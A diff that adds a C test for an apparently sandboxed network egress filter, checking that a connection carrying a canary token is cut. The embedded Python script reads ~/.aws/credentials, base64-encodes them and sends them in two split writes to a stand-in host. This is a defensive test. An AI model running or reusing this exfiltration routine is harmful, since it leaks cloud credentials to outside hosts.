@@ -246,3 +246,43 @@ Test(net, grants_are_validated)
     assert_status(&d, 125);
     assert_contains(&d, err, "egress[0].tls: expected \"intercept\"");
 }
+
+/* A raw grant's bytes are scanned too: the connection that carries a canary
+ * token (here base64, split across two writes) is cut before the token's
+ * bytes reach the upstream, which then reads nothing at all. */
+Test(net, a_raw_grant_cuts_a_connection_carrying_a_canary_token)
+{
+    struct upstream u;
+    int port = upstream_start(&u);
+    char tag[17], policy[64], text[512];
+    random_tag(tag);
+    snprintf(policy, sizeof policy, "/tmp/cordon-net-%s.json", tag);
+    snprintf(text, sizeof text,
+             "{\"egress\": [{\"host\": \"api.test\", \"port\": 443, \"upstream\": \"127.0.0.1:%d\"}]}\n",
+             port);
+    write_file(policy, text);
+    const char *script =
+        "import base64, os, socket, time\n"
+        "cred = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\n"
+        "s = socket.create_connection(('api.test', 443)); s.sendall(b'hello')\n"
+        "print(s.recv(100).decode())\n"
+        "b = base64.b64encode(cred)\n"
+        "s = socket.create_connection(('api.test', 443))\n"
+        "s.sendall(b[:len(b) // 2]); time.sleep(0.2); s.sendall(b[len(b) // 2:])\n"
+        "got = b''\n"
+        "while True:\n"
+        "    try: d = s.recv(100)\n"
+        "    except ConnectionResetError: d = b''\n"
+        "    if not d: break\n"
+        "    got += d\n"
+        "print(repr(got[:13]), len(got) <= 13 + len(b) // 2)\n";
+    const char *const opts[] = { "-v", "--policy", policy, "--canary",
+                                 "/home/user/.aws/credentials", NULL };
+    RUN(r);
+    python(&r, opts, script);
+    unlink(policy);
+    upstream_stop(&u);
+    /* The first half (no whole token) may pass; the rest never does. */
+    assert_run(&r, 0, "upstream got hello\nb'upstream got ' True\n");
+    assert_contains(&r, err, "canary token in egress");
+}
